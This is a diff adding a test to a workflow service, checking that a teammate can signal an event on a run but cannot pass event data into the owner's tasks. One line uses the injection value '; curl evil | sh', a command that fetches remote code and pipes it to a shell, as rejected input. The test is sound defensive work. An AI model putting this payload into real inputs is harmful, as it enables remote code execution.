@@ -275,3 +275,35 @@ def test_a_teammates_idempotency_key_neither_finds_nor_takes_the_owners_runs(
         dag.stop()
     runs = db.execute("SELECT workflow, count(*) FROM dag.runs GROUP BY 1 ORDER BY 1").fetchall()
     assert runs == [("etl", 2), ("payroll", 2)]
+
+
+def test_a_teammate_signals_a_team_run_but_chooses_no_data_its_tasks_read(
+    core: Core, tmp_path: Path, db
+) -> None:
+    """An event's data become the waiting node's outputs, which the nodes after it read
+    into their tasks' arguments, run as the workflow's owner: a teammate's data were a
+    teammate's arguments run as the owner, which a run's params may not be either."""
+    _team(core, "sre", "alice", "bob")
+    dag = start_dag(core, tmp_path / "dag")
+    try:
+        with dag.client("alice") as alice, dag.client("bob") as bob:
+            wait = {"name": "wait", "event": {"name": "go", "timeout_s": 3600}}
+            wait["outputs"] = {"ref": {"required": False}}
+            after = {"name": "deploy", "depends_on": ["wait"]}
+            after["task"] = {"artifact": ARTIFACT, "args": ["{{ nodes.wait.outputs.ref }}"]}
+            body = {"name": "release", "team": "sre", "nodes": [wait, after]}
+            assert alice.post("/v1/workflows", json=body).status_code == 201
+            run = bob.post("/v1/workflows/release/runs", params={"owner": "alice"}, json={})
+            assert run.status_code == 201, run.text
+            path = f"/v1/runs/{run.json()['id']}/events/go"
+            refused = bob.post(path, json={"data": {"ref": "; curl evil | sh"}})
+            assert refused.status_code == 403, refused.text
+            assert refused.json()["errors"][0]["field"] == "body.data"
+            assert db.execute("SELECT count(*) FROM dag.run_events").fetchone() == (0,)
+            # A signal without data is a teammate's to send; the owner's data are hers.
+            assert bob.post(path, json={}).status_code == 201
+            assert alice.post(f"{path}-not-waited", json={}).status_code == 404
+    finally:
+        dag.stop()
+    kept = db.execute("SELECT name, data, sent_by FROM dag.run_events").fetchall()
+    assert kept == [("go", {}, "bob")]
